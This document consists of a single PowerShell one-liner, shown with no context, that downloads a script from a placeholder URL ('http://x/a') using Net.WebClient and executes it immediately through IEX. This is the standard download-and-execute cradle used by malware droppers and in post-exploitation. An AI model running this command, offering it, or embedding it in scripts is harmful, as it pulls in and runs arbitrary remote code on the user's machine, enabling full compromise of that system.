IEX (New-Object Net.WebClient).DownloadString('http://x/a')
